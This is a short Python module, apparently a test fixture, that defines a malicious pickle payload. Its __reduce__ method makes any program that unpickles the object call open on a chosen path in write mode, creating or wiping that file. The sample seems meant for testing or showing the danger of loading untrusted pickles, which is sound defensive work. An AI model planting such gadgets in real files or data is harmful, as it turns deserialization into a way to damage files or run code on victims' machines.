"""What a hostile file holds."""


class Payload:
    """A pickle that makes a file when it is opened by a reader that trusts it."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return open, (str(self.path), "w")
